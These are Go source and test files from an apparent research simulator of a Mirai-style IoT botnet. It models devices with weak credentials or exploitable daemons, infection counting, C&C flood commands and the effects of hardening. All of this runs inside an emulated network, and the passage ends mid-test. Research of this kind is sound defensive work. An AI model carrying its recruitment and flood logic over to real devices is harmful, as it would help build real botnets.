// deployTelnetDevs builds the credential-vector fleet: BusyBox-style
// devices guarded only by a login, a WeakCredFraction of which ship
// dictionary credentials.
func (s *Simulation) deployTelnetDevs() error {
	img := &container.Image{
		Name: "ddosim/dev-busybox", Tag: "1.19", Arch: "x86_64",
		Files:      map[string][]byte{"/bin/telnetd": container.BinaryContent(imagecat.BinTelnetd, "x86_64")},
		ExecPaths:  map[string]bool{"/bin/telnetd": true},
		ExtraBytes: 3 << 20,
	}
	s.engine.RegisterImage(img)
	rng := rand.New(rand.NewSource(s.cfg.Seed ^ 0x5eed))
	for i := 0; i < s.cfg.NumDevs; i++ {
		name := fmt.Sprintf("dev-%03d", i+1)
		rate := s.cfg.MinDevRate +
			netsim.DataRate(rng.Int63n(int64(s.cfg.MaxDevRate-s.cfg.MinDevRate)+1))
		cred := telnetd.StrongCred
		weak := rng.Float64() < s.cfg.WeakCredFraction
		if weak {
			cred = telnetd.MiraiDictionary[rng.Intn(len(telnetd.MiraiDictionary))]
			s.results.WeakCredDevs++
		}
		lp := s.primeLP(s.devShardFor(i))
		var c *container.Container
		var err error
		s.withLP(lp, func() {
			c, err = s.engine.Create(img.Ref(), name, container.LinkConfig{
				Rate: rate, Delay: s.cfg.LinkDelay, QueueLimit: s.cfg.DevQueueLimit,
			})
			if err != nil {
				return
			}
			dev := &Dev{name: name, binary: BinaryTelnetd, rate: rate, container: c}
			s.devs = append(s.devs, dev)
			s.devByAddr[c.Node().Addr4()] = dev
			if err = c.Start(); err != nil {
				return
			}
			c.Spawn(telnetd.New(telnetd.Config{Cred: cred}))
			dev.respawn = func() bool {
				if c.FindByTCPPort(23) != nil {
					return false
				}
				c.Spawn(telnetd.New(telnetd.Config{Cred: cred}))
				return true
			}
		})
		if err != nil {
			return fmt.Errorf("core: dev %s: %w", name, err)
		}
	}
	return nil
}

func (s *Simulation) deployVulnDaemonDevs() error {
	connmanProg, dnsmasqProg := imagecat.Connman(), imagecat.Dnsmasq()
	if s.cfg.Hardened {
		connmanProg, dnsmasqProg = imagecat.HardenedConnman(), imagecat.HardenedDnsmasq()
	}
	connmanImg := &container.Image{
		Name: "ddosim/dev-connman", Tag: "1.34", Arch: "x86_64",
		Files:      map[string][]byte{"/usr/sbin/connmand": container.BinaryContent(imagecat.BinConnman, "x86_64")},
		ExecPaths:  map[string]bool{"/usr/sbin/connmand": true},
		Program:    connmanProg,
		ExtraBytes: 4 << 20,
	}
	dnsmasqImg := &container.Image{
		Name: "ddosim/dev-dnsmasq", Tag: "2.77", Arch: "x86_64",
		Files:      map[string][]byte{"/usr/sbin/dnsmasq": container.BinaryContent(imagecat.BinDnsmasq, "x86_64")},
		ExecPaths:  map[string]bool{"/usr/sbin/dnsmasq": true},
		Program:    dnsmasqProg,
		ExtraBytes: 4 << 20,
	}
	s.engine.RegisterImage(connmanImg)
	s.engine.RegisterImage(dnsmasqImg)

	// Dev parameters come from a dedicated stream so that runs with
	// the same seed but different churn modes get identical fleets —
	// common random numbers make the Fig. 2 churn comparison paired.
	rng := rand.New(rand.NewSource(s.cfg.Seed ^ 0x5eed))
	for i := 0; i < s.cfg.NumDevs; i++ {
		name := fmt.Sprintf("dev-%03d", i+1)
		bin := s.cfg.binaryFor(i)
		rate := s.cfg.MinDevRate +
			netsim.DataRate(rng.Int63n(int64(s.cfg.MaxDevRate-s.cfg.MinDevRate)+1))
		prot := procvm.Protections{WX: true, ASLR: true}
		if s.cfg.RandomProtections {
			prot = procvm.Protections{WX: rng.Intn(2) == 0, ASLR: rng.Intn(2) == 0}
		}
		if rng.Float64() < s.cfg.CanaryFraction {
			prot.Canary = true
			s.results.CanaryDevs++
		}

		ref := connmanImg.Ref()
		if bin == BinaryDnsmasq {
			ref = dnsmasqImg.Ref()
		}
		lp := s.primeLP(s.devShardFor(i))
		var c *container.Container
		var err error
		s.withLP(lp, func() {
			c, err = s.engine.Create(ref, name, container.LinkConfig{
				Rate: rate, Delay: s.cfg.LinkDelay, QueueLimit: s.cfg.DevQueueLimit,
			})
			if err != nil {
				return
			}
			dev := &Dev{name: name, binary: bin, prot: prot, rate: rate, container: c}
			s.devs = append(s.devs, dev)
			s.devByAddr[c.Node().Addr4()] = dev

			if err = c.Start(); err != nil {
				return
			}
			if s.cfg.RemoveCurl {
				c.RemoveCommand("curl")
				c.RemoveCommand("wget")
			}
			outcome := s.routeOutcome(dev, s.outcomeHook(dev))
			switch bin {
			case BinaryConnman:
				// §V-C: Devs are manually pointed at the malicious DNS
				// server.
				c.FS().Write("/etc/resolv.conf",
					[]byte("nameserver "+s.attacker.Container.Node().Addr4().String()+"\n"))
				spawn := func() {
					c.Spawn(connman.New(connman.Config{
						Protections: prot,
						QueryPeriod: s.cfg.ConnmanQueryPeriod,
						Program:     connmanProg,
						OnOutcome:   outcome,
					}))
				}
				spawn()
				dev.respawn = daemonRespawn(c, imagecat.BinConnman, spawn)
			case BinaryDnsmasq:
				spawn := func() {
					c.Spawn(dnsmasq.New(dnsmasq.Config{
						Protections: prot,
						Program:     dnsmasqProg,
						OnOutcome:   outcome,
					}))
				}
				spawn()
				dev.respawn = daemonRespawn(c, imagecat.BinDnsmasq, spawn)
			}
		})
		if err != nil {
			return fmt.Errorf("core: dev %s: %w", name, err)
		}
	}
	return nil
}

// daemonRespawn builds a supervisor hook that respawns a Dev's service
// daemon unless a live process with its title is still around.
func daemonRespawn(c *container.Container, title string, spawn func()) func() bool {
	return func() bool {
		for _, p := range c.Procs() {
			if p.Title() == title {
				return false
			}
		}
		spawn()
		return true
	}
}

// routeOutcome adapts a Dev's exploit-outcome hook for the sharded
// kernel: the daemon parses payloads on its own shard, but the hook
// mutates run-wide state (results, timeline, trace), so it rides a
// control message to the next barrier. The control clock equals the
// message timestamp when it runs, so every Now() read inside the hook
// still sees the originating instant.
func (s *Simulation) routeOutcome(dev *Dev, inner func(procvm.HijackOutcome)) func(procvm.HijackOutcome) {
	if s.set == nil {
		return inner
	}
	ctl := s.set.CtlLP()
	return func(out procvm.HijackOutcome) {
		lp := dev.container.Node().LP()
		lp.SendFunc(ctl, lp.Shard().Sched().Now(), func(sim.Time) { inner(out) })
	}
}

func (s *Simulation) outcomeHook(dev *Dev) func(procvm.HijackOutcome) {
	reg := s.obs.Metrics
	ctrAttempts := reg.Counter("exploit_attempts_total", "attacker payloads parsed by Dev daemons")
	ctrHijacked := reg.Counter("exploit_hijacked_total", "payloads that overwrote a return address")
	ctrInfected := reg.Counter("infections_total", "Devs recruited into the botnet")
	ctrCrashed := reg.Counter("exploit_crashes_total", "daemons crashed by a payload (defenses held)")
	return func(out procvm.HijackOutcome) {
		s.results.ExploitAttempts++
		ctrAttempts.Inc()
		if _, ok := s.firstAttempt[dev.name]; !ok {
			s.firstAttempt[dev.name] = s.sched.Now()
		}
		if out.Hijacked {
			s.results.Hijacked++
			ctrHijacked.Inc()
		}
		switch {
		case out.ExecutedShell != "":
			if !s.infectedDevs[dev.name] {
				now := s.sched.Now()
				s.infectedDevs[dev.name] = true
				s.results.Infected++
				ctrInfected.Inc()
				s.timeline.Record(now, EventExploitHit, dev.name)
				s.obs.Trace.Event(now, obs.CatExploit, "exploit-success",
					obs.KV{K: "dev", V: dev.name}, obs.KV{K: "binary", V: string(dev.binary)})
				// Exploit phase: first payload parsed → shell executed;
				// recruit covers the whole chain from the run's start.
				s.obs.Trace.RecordSpan(s.firstAttempt[dev.name], now,
					obs.CatKillChain, "exploit", obs.KV{K: "dev", V: dev.name})
				s.obs.Trace.RecordSpan(0, now, obs.CatKillChain, "recruit",
					obs.KV{K: "dev", V: dev.name})
			}
		case out.Crashed():
			s.results.Crashed++
			ctrCrashed.Inc()
			s.timeline.Record(s.sched.Now(), EventExploitCrash, dev.name)
			s.obs.Trace.Event(s.sched.Now(), obs.CatExploit, "exploit-crash",
				obs.KV{K: "dev", V: dev.name}, obs.KV{K: "binary", V: string(dev.binary)})
		}
	}
}

func (s *Simulation) snapshot() resources.Snapshot {
	st := s.net.Stats()
	return resources.Snapshot{
		ContainerBytes:  s.engine.TotalMemBytes(),
		TxFrames:        st.TxFrames,
		EventsProcessed: s.processed(),
		PeakQueued:      st.PeakQueued,
	}
}

func (s *Simulation) onlineDevs() int {
	n := 0
	for _, d := range s.devs {
		if d.Online() {
			n++
		}
	}
	return n
}

// Run executes the scenario to the configured horizon and returns the
// measurements.
func (s *Simulation) Run() (*Results, error) {
	s.results.DevsTotal = s.cfg.NumDevs
	s.results.AttackIssuedAt = -1

	// Churn applies from the outset (§IV-A); the fault scenario, when
	// declared, runs alongside it.
	s.churnCtl.Start()
	if s.faults != nil {
		s.faults.Start()
	}

	s.recruitSpan = s.obs.Trace.BeginSpan(s.sched.Now(), obs.CatPhase, "recruitment")

	// Recruitment watcher: issue the attack once every online Dev is
	// a registered bot, or at the recruitment deadline. It doubles as
	// the per-second sampler of the scheduler queue-depth gauge.
	queueDepth := s.obs.Metrics.Gauge("sim_queue_depth", "scheduler events pending right now")
	watcher := sim.NewTicker(s.sched, sim.Second, func() {
		queueDepth.Set(float64(s.pending()))
		if s.attackIssued {
			return
		}
		online := s.onlineDevs()
		full := online > 0 && s.botCount() >= online
		if full || s.sched.Now() >= s.cfg.RecruitTimeout {
			s.issueAttack()
		}
	})
	watcher.Source = "core.watcher"
	watcher.Start()

	// Windowed time-series sampler: one row per WindowSize of sim time.
	windowTicker := sim.NewTicker(s.sched, s.cfg.WindowSize, func() {
		s.windows.Sample(s.sched.Now())
	})
	windowTicker.Source = "obs.windows"
	windowTicker.Start()

	if s.set != nil {
		if err := s.set.Run(s.cfg.SimDuration); err != nil {
			return nil, fmt.Errorf("core: run: %w", err)
		}
	} else if err := s.sched.Run(s.cfg.SimDuration); err != nil {
		return nil, fmt.Errorf("core: run: %w", err)
	}
	watcher.Stop()
	windowTicker.Stop()
	s.net.StopFlows()
	s.churnCtl.Stop()
	if s.faults != nil {
		s.faults.Stop()
	}

	if s.attackIssued && !s.postTaken {
		s.postSnap = s.snapshot()
		s.postTaken = true
	}
	s.assemble()
	return &s.results, nil
}

func (s *Simulation) issueAttack() {
	s.attackIssued = true
	s.preSnap = s.snapshot()
	now := s.sched.Now()
	s.results.AttackIssuedAt = now
	s.obs.Trace.EndSpan(s.recruitSpan, now)
	method := s.cfg.AttackMethod
	if method == "" {
		method = mirai.MethodUDPPlain
	}
	s.attackSpan = s.obs.Trace.BeginSpan(now, obs.CatPhase, "attack",
		obs.KV{K: "method", V: method},
		obs.KV{K: "duration_s", V: fmt.Sprint(s.cfg.AttackDuration)})
	target := s.tserver.Addr4()
	if s.cfg.AttackOverIPv6 {
		target = s.tserver.Addr6()
	}
	// Flood flows open after this instant; label them by their exact
	// target endpoint so the exported dataset separates attack traffic
	// from everything else.
	s.net.AddFlowLabelRule(netsim.FlowLabelRule{
		Endpoint: netip.AddrPortFrom(target, s.cfg.AttackPort), Label: "attack"})
	// issueAttack runs on the control plane; under the sharded kernel
	// the command traffic must be attributed to the attacker hub's
	// logical process.
	var n int
	if s.attacker.Seeder != nil {
		// P2P: sign one record with the campaign's absolute end and
		// replicate it; polls, pushes, and the republish pump carry it
		// to the fleet. BotsAtCommand is the census at the instant the
		// record goes out — unlike mirai there is no per-bot delivery
		// count to report.
		end := now + sim.Time(s.cfg.AttackDuration)*sim.Second
		s.withLP(s.atkLP(), func() {
			n = s.attacker.Seeder.Contacts
			s.attacker.Seeder.PublishAttack(method,
				netip.AddrPortFrom(target, s.cfg.AttackPort), end)
		})
	} else {
		dur := s.cfg.AttackDuration
		if s.cfg.CommandWave > 0 {
			// Heartbeat mode: each order only covers the gap to the
			// next wave (plus a second of slack), so the flood lives
			// exactly as long as the C&C keeps re-commanding it — the
			// centralized dependence the takedown contrast measures.
			dur = s.waveSecs(s.cfg.AttackDuration)
		}
		s.withLP(s.atkLP(), func() {
			n = s.attacker.CNC.LaunchAttack(mirai.AttackCommand{
				Method:   method,
				Target:   target,
				Port:     s.cfg.AttackPort,
				Duration: dur,
			})
		})
		if s.cfg.CommandWave > 0 {
			s.scheduleCommandWaves(method, target, now+sim.Time(s.cfg.AttackDuration)*sim.Second)
		}
	}
	s.results.BotsAtCommand = n
	s.timeline.Record(now, EventAttackOrder, fmt.Sprintf("%d bots", n))
	if s.faults != nil {
		// Order-relative fault scenarios (the permanent takedown) key
		// off this instant.
		s.faults.OnAttackOrder()
	}

	// The attack phase span ends when the commanded flood duration
	// elapses (individual bots may trail off later due to jitter).
	s.sched.Schedule(sim.Time(s.cfg.AttackDuration)*sim.Second, func() {
		s.obs.Trace.EndSpan(s.attackSpan, s.sched.Now())
	})

	// Post-attack snapshot: after the last jittered bot finishes,
	// plus queue-drain grace.
	jitter := sim.Time(s.cfg.NumDevs) * s.cfg.StartJitterPerDev
	post := sim.Time(s.cfg.AttackDuration)*sim.Second + jitter + 10*sim.Second
	s.sched.Schedule(post, func() {
		if !s.postTaken {
			s.postSnap = s.snapshot()
			s.postTaken = true
		}
	})
}

// waveSecs is the heartbeat order's duration: one wave plus a second
// of slack so floods bridge the gap to the next order, capped at the
// remaining window.
func (s *Simulation) waveSecs(remaining int) int {
	w := int(s.cfg.CommandWave/sim.Second) + 1
	if w > remaining {
		w = remaining
	}
	return w
}

// scheduleCommandWaves re-sends the heartbeat order every CommandWave
// until the commanded window ends. A bot whose C&C line dropped and
// came back mid-attack picks the flood up at the next wave; when the
// C&C dies for good the whole flood starves within one wave.
func (s *Simulation) scheduleCommandWaves(method string, target netip.Addr, end sim.Time) {
	var wave func()
	wave = func() {
		now := s.sched.Now()
		remaining := int((end - now) / sim.Second)
		if remaining <= 0 {
			return
		}
		s.withLP(s.atkLP(), func() {
			s.attacker.CNC.LaunchAttack(mirai.AttackCommand{
				Method:   method,
				Target:   target,
				Port:     s.cfg.AttackPort,
				Duration: s.waveSecs(remaining),
			})
		})
		s.sched.ScheduleSrc(s.cfg.CommandWave, "core.cmdwave", wave)
	}
	s.sched.ScheduleSrc(s.cfg.CommandWave, "core.cmdwave", wave)
}

func (s *Simulation) assemble() {
	r := &s.results
	// Finalize the telemetry artifacts: emit the tail window (idempotent
	// when the ticker already sampled this instant) and close every
	// still-open flow so the dataset accounts each offered packet.
	s.windows.Sample(s.sched.Now())
	s.net.FlushFlows(s.sched.Now())
	if s.set != nil {
		// Merge the per-shard export buffers into the canonical
		// dataset: records sort by flow identity, independent of which
		// partition exported them.
		s.flowBuf = s.net.FlowDataset()
		if s.flowBuf == nil {
			s.flowBuf = &obs.FlowBuffer{}
		}
		s.net.SyncGauges()
	}
	r.Flows = s.flowBuf.Stats()
	r.NetStats = s.net.Stats()
	r.ChurnDepartures = s.churnCtl.Departures()
	r.ChurnRejoins = s.churnCtl.Rejoins()
	r.SinkBytes = s.sink.Series().TotalBytes()
	r.DistinctSources = s.sink.DistinctSources()
	r.Timeline = s.timeline
	if s.faults != nil {
		st := s.faults.Stats()
		r.Faults = &st
	}

	// Seal the observability layer: close dangling phase spans, merge
	// the per-shard trace buffers into one deterministic stream, mirror
	// the kernel counters into the registry, and condense a summary.
	s.obs.Trace.CloseOpenSpans(s.sched.Now())
	if s.set != nil {
		s.obs.Trace = obs.MergeTracers(
			append([]*obs.Tracer{s.obs.Trace}, s.net.ShardTracers()...)...)
	}
	r.Phases = obs.SummarizePhases(s.obs.Trace.Spans(), obs.CatKillChain, faults.CatFault)
	reg := s.obs.Metrics
	reg.Gauge("sim_events_processed", "scheduler events executed this run").
		Set(float64(s.processed()))
	reg.Gauge("sim_queue_depth", "scheduler events pending right now").
		Set(float64(s.pending()))
	if r.AttackIssuedAt > 0 {
		reg.Gauge("infections_per_sec", "mean infections per second up to the attack order").
			Set(float64(r.Infected) / r.AttackIssuedAt.Seconds())
	}
	reg.Gauge("sink_rx_bytes_total", "attack bytes TServer's sink logged").
		Set(float64(r.SinkBytes))
	r.Obs = s.obs.Summarize()
	if s.set != nil {
		// The profiler hooks only the control scheduler in sharded mode
		// (a shared hook on worker schedulers would race); the kernel's
		// own counter covers every shard and is partition-invariant —
		// each logical event executes exactly once wherever its LP lives.
		r.Obs.EventsDelivered = s.processed()
	}

	if s.attackIssued {
		from := int64(r.AttackIssuedAt / sim.Second)
		to := from + int64(s.cfg.AttackDuration)
		r.DReceivedKbps = s.sink.Series().AvgReceivedKbps(from, to)
		r.PerSecondKbps = s.sink.Series().KbpsSeries(from, to)
		r.Usage = resources.Estimate(resources.Inputs{
			Devs:          s.cfg.NumDevs,
			PreAttack:     s.preSnap,
			PostAttack:    s.postSnap,
			CommandedSecs: float64(s.cfg.AttackDuration),
		})
	}
}
