package core

import (
	"testing"

	"ddosim/internal/churn"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// smallConfig trims the paper defaults for fast tests.
func smallConfig(devs int) Config {
	cfg := DefaultConfig(devs)
	cfg.SimDuration = 300 * sim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 90 * sim.Second
	return cfg
}

func TestFullKillChain(t *testing.T) {
	// R1 + R2: memory-error exploitation recruits every Dev (100%
	// infection) and the botnet floods TServer.
	cfg := smallConfig(12)
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.Infected != 12 {
		t.Fatalf("infected = %d/12; R2 expects 100%%\nlog:\n%s", r.Infected, r.Timeline)
	}
	if r.InfectionRate() != 1.0 {
		t.Fatalf("infection rate = %v", r.InfectionRate())
	}
	if r.BotsRegistered != 12 {
		t.Fatalf("bots registered = %d", r.BotsRegistered)
	}
	if r.BotsAtCommand != 12 {
		t.Fatalf("bots at command = %d", r.BotsAtCommand)
	}
	if r.AttackIssuedAt < 0 {
		t.Fatal("attack never issued")
	}
	if r.DReceivedKbps <= 0 {
		t.Fatal("no attack traffic measured")
	}
	if r.DistinctSources != 12 {
		t.Fatalf("distinct attack sources = %d", r.DistinctSources)
	}
	if r.Crashed != 0 {
		t.Fatalf("crashed = %d; stock non-PIE fleet should never crash", r.Crashed)
	}
	// Both exploitation channels must have fired.
	if s.Attacker().DNS.QueriesServed == 0 {
		t.Fatal("malicious DNS server served no queries")
	}
	if s.Attacker().DHCP.MessagesSent == 0 {
		t.Fatal("DHCPv6 exploit script sent nothing")
	}
	if s.Attacker().FileServer.Requests == 0 {
		t.Fatal("file server saw no downloads")
	}
	// Both binaries must be represented among infections.
	hits := r.Timeline.ActorsOf(EventExploitHit)
	if len(hits) != 12 {
		t.Fatalf("exploit-hit actors = %d", len(hits))
	}
	if r.Summary() == "" {
		t.Fatal("empty summary")
	}
}

func TestDReceivedScalesWithDevs(t *testing.T) {
	// Fig. 2's core monotonicity on a small scale.
	run := func(devs int) float64 {
		cfg := smallConfig(devs)
		s, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		r, err := s.Run()
		if err != nil {
			t.Fatal(err)
		}
		return r.DReceivedKbps
	}
	small, large := run(5), run(20)
	if small <= 0 || large <= small {
		t.Fatalf("D_received: 5 devs = %.1f, 20 devs = %.1f; want increase", small, large)
	}
}

func TestChurnOrdering(t *testing.T) {
	// Fig. 2's churn ordering: none > static > dynamic. The effect is
	// an expectation (departure draws can be zero for small fleets),
	// so average over seeds and allow static a hair of noise.
	run := func(mode churn.Mode) float64 {
		sum := 0.0
		for seed := int64(1); seed <= 4; seed++ {
			cfg := smallConfig(30)
			cfg.Seed = seed
			cfg.Churn = mode
			s, err := New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			r, err := s.Run()
			if err != nil {
				t.Fatal(err)
			}
			sum += r.DReceivedKbps
		}
		return sum / 4
	}
	none := run(churn.None)
	static := run(churn.Static)
	dynamic := run(churn.Dynamic)
	if !(none >= static*0.995 && static >= dynamic) {
		t.Fatalf("churn ordering violated: none=%.1f static=%.1f dynamic=%.1f", none, static, dynamic)
	}
	if dynamic >= none {
		t.Fatalf("dynamic churn (%.1f) not below no churn (%.1f)", dynamic, none)
	}
	if none <= 0 {
		t.Fatal("no-churn run produced no traffic")
	}
}

func TestHardenedFleetResists(t *testing.T) {
	// PIE+ASLR rebuilds: exploit attempts crash daemons instead of
	// recruiting them; TServer stays quiet.
	cfg := smallConfig(8)
	cfg.Hardened = true
	cfg.RandomProtections = false // all Devs run W^X + ASLR
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.Infected != 0 {
		t.Fatalf("hardened fleet infected = %d", r.Infected)
	}
	if r.Crashed == 0 {
		t.Fatal("no crashes recorded; exploit attempts should fault")
	}
	if r.SinkBytes != 0 {
		t.Fatalf("TServer received %d bytes from a fleet that should not attack", r.SinkBytes)
	}
	if r.BotsAtCommand != 0 {
		t.Fatalf("bots at command = %d", r.BotsAtCommand)
	}
}

func TestDeterministicResults(t *testing.T) {
	run := func() *Results {
		cfg := smallConfig(10)
		cfg.Seed = 99
		s, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		r, err := s.Run()
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	a, b := run(), run()
	if a.DReceivedKbps != b.DReceivedKbps || a.SinkBytes != b.SinkBytes ||
		a.Infected != b.Infected || a.AttackIssuedAt != b.AttackIssuedAt {
		t.Fatalf("same seed diverged:\n%s\nvs\n%s", a.Summary(), b.Summary())
	}
}

func TestDifferentSeedsDiffer(t *testing.T) {
	run := func(seed int64) uint64 {
		cfg := smallConfig(10)
		cfg.Seed = seed
		s, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		r, err := s.Run()
		if err != nil {
			t.Fatal(err)
		}
		return r.SinkBytes
	}
	if run(1) == run(2) {
		t.Fatal("different seeds produced identical attack volume (suspicious)")
	}
}

func TestConfigValidation(t *testing.T) {
	bad := []func(*Config){
		func(c *Config) { c.NumDevs = 0 },
		func(c *Config) { c.ConnmanFraction = 1.5 },
		func(c *Config) { c.MinDevRate = 0 },
		func(c *Config) { c.MaxDevRate = c.MinDevRate - 1 },
		func(c *Config) { c.TServerDownlink = 0 },
		func(c *Config) { c.AttackDuration = 0 },
		func(c *Config) { c.SimDuration = 0 },
		func(c *Config) { c.Churn = churn.Mode(42) },
		func(c *Config) { c.SimDuration = 50 * sim.Second }, // too short
	}
	for i, mutate := range bad {
		cfg := DefaultConfig(10)
		mutate(&cfg)
		if err := cfg.Validate(); err == nil {
			t.Errorf("case %d: invalid config accepted", i)
		}
	}
	cfg := DefaultConfig(10)
	if err := cfg.Validate(); err != nil {
		t.Fatalf("default config invalid: %v", err)
	}
}

func TestBinaryMix(t *testing.T) {
	cfg := DefaultConfig(10)
	cfg.ConnmanFraction = 0.3
	connmanCount := 0
	for i := 0; i < 10; i++ {
		if cfg.binaryFor(i) == BinaryConnman {
			connmanCount++
		}
	}
	if connmanCount != 3 {
		t.Fatalf("connman devs = %d, want 3", connmanCount)
	}
	cfg.ConnmanFraction = 1
	for i := 0; i < 10; i++ {
		if cfg.binaryFor(i) != BinaryConnman {
			t.Fatal("fraction 1 produced a dnsmasq dev")
		}
	}
}

func TestSingleBinaryFleets(t *testing.T) {
	for _, fraction := range []float64{0, 1} {
		cfg := smallConfig(6)
		cfg.ConnmanFraction = fraction
		s, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		r, err := s.Run()
		if err != nil {
			t.Fatal(err)
		}
		if r.Infected != 6 {
			t.Fatalf("fraction %v: infected %d/6", fraction, r.Infected)
		}
	}
}

func TestDevRatesWithinRange(t *testing.T) {
	cfg := smallConfig(20)
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range s.Devs() {
		rate := d.Container().Node().DefaultDevice().Rate()
		if rate < cfg.MinDevRate || rate > cfg.MaxDevRate {
			t.Fatalf("dev %s rate %v outside [%v, %v]", d.Name(), rate, cfg.MinDevRate, cfg.MaxDevRate)
		}
	}
}

func TestResourceUsagePopulated(t *testing.T) {
	cfg := smallConfig(10)
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.Usage.PreAttackMemGB <= 0 || r.Usage.AttackMemGB <= r.Usage.PreAttackMemGB {
		t.Fatalf("usage = %+v", r.Usage)
	}
	if r.Usage.AttackTimeSecs <= float64(cfg.AttackDuration) {
		t.Fatalf("attack time %.1f not inflated past %d", r.Usage.AttackTimeSecs, cfg.AttackDuration)
	}
}

func TestTimelineOrdering(t *testing.T) {
	cfg := smallConfig(6)
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	firstHit, ok := r.Timeline.FirstOf(EventExploitHit)
	if !ok {
		t.Fatal("no exploit hits")
	}
	firstBot, ok := r.Timeline.FirstOf(EventBotJoined)
	if !ok {
		t.Fatal("no bot registrations")
	}
	order, ok := r.Timeline.FirstOf(EventAttackOrder)
	if !ok {
		t.Fatal("no attack order")
	}
	flood, ok := r.Timeline.FirstOf(EventFloodStart)
	if !ok {
		t.Fatal("no flood start")
	}
	if !(firstHit.At <= firstBot.At && firstBot.At <= order.At && order.At <= flood.At) {
		t.Fatalf("kill chain out of order: hit=%v bot=%v order=%v flood=%v",
			firstHit.At, firstBot.At, order.At, flood.At)
	}
}

func TestMixedProtectionsStillFullRecruitment(t *testing.T) {
	// §III-B: every Dev enables a random subset of W^X/ASLR, but the
	// ROP chain works against all subsets on non-PIE builds.
	cfg := smallConfig(16)
	cfg.RandomProtections = true
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// Confirm the fleet actually mixes protections.
	seen := map[[2]bool]bool{}
	for _, d := range s.Devs() {
		seen[[2]bool{d.Protections().WX, d.Protections().ASLR}] = true
	}
	if len(seen) < 2 {
		t.Fatalf("protection mix degenerate: %v", seen)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.Infected != 16 {
		t.Fatalf("infected = %d/16 despite non-PIE fleet", r.Infected)
	}
}

func TestTServerSaturation(t *testing.T) {
	// With a deliberately narrow TServer downlink the received rate
	// caps near the link rate and drops appear — the Fig. 2 mechanism.
	cfg := smallConfig(20)
	cfg.TServerDownlink = 1 * netsim.Mbps // offered ~6 Mbps
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.DReceivedKbps > 1100 {
		t.Fatalf("D_received %.1f kbps exceeds a 1 Mbps bottleneck", r.DReceivedKbps)
	}
	if r.DReceivedKbps < 700 {
		t.Fatalf("D_received %.1f kbps; bottleneck should be nearly saturated", r.DReceivedKbps)
	}
	if r.NetStats.Drops == 0 {
		t.Fatal("no queue drops under saturation")
	}
}
