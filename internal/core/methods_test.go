package core

import (
	"testing"

	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
)

func TestSYNFloodAttack(t *testing.T) {
	cfg := smallConfig(10)
	cfg.AttackMethod = mirai.MethodSYN
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.DReceivedKbps <= 0 {
		t.Fatal("no SYN flood traffic measured")
	}
	if r.DistinctSources != 10 {
		t.Fatalf("distinct sources = %d", r.DistinctSources)
	}
	if got := s.Sink().BytesByProto(netsim.ProtoTCP); got == 0 {
		t.Fatal("no TCP bytes at sink")
	}
	if got := s.Sink().BytesByProto(netsim.ProtoUDP); got != 0 {
		t.Fatalf("unexpected UDP bytes %d during SYN flood", got)
	}
	// Bots pace at line rate, so the byte rate tracks the summed
	// uplink rates (~10 x 300 kbps) regardless of frame size; the
	// packet rate, though, is ~10x UDP-PLAIN's (54-byte frames).
	if r.DReceivedKbps > 4500 {
		t.Fatalf("SYN flood rate %.1f kbps exceeds the fleet's uplinks", r.DReceivedKbps)
	}
	if s.Sink().RxPackets() < 100_000 {
		t.Fatalf("SYN flood packet count %d implausibly low", s.Sink().RxPackets())
	}
}

func TestACKFloodAttack(t *testing.T) {
	cfg := smallConfig(8)
	cfg.AttackMethod = mirai.MethodACK
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.DReceivedKbps <= 0 || s.Sink().BytesByProto(netsim.ProtoTCP) == 0 {
		t.Fatal("no ACK flood traffic")
	}
}

func TestAttackOverIPv6(t *testing.T) {
	cfg := smallConfig(10)
	cfg.AttackOverIPv6 = true
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if r.DReceivedKbps <= 0 {
		t.Fatal("no IPv6 flood traffic")
	}
	if r.DistinctSources != 10 {
		t.Fatalf("distinct sources = %d", r.DistinctSources)
	}
	// All attack sources must be IPv6.
	for _, e := range r.Timeline.Events() {
		_ = e
	}
	if got := s.Sink().BytesFrom(s.Devs()[0].Container().Node().Addr6()); got == 0 {
		t.Fatal("first dev's IPv6 address sent nothing")
	}
	if got := s.Sink().BytesFrom(s.Devs()[0].Container().Node().Addr4()); got != 0 {
		t.Fatalf("IPv4 traffic (%d bytes) during an IPv6 attack", got)
	}
}

func TestV4AndV6RatesComparable(t *testing.T) {
	// The same fleet floods at line rate in both families; the v6
	// run carries more header overhead per frame but similar wire
	// volume.
	run := func(v6 bool) float64 {
		cfg := smallConfig(10)
		cfg.AttackOverIPv6 = v6
		s, err := New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		r, err := s.Run()
		if err != nil {
			t.Fatal(err)
		}
		return r.DReceivedKbps
	}
	v4, v6 := run(false), run(true)
	ratio := v6 / v4
	if ratio < 0.85 || ratio > 1.15 {
		t.Fatalf("v6/v4 rate ratio = %.2f (v4=%.1f v6=%.1f)", ratio, v4, v6)
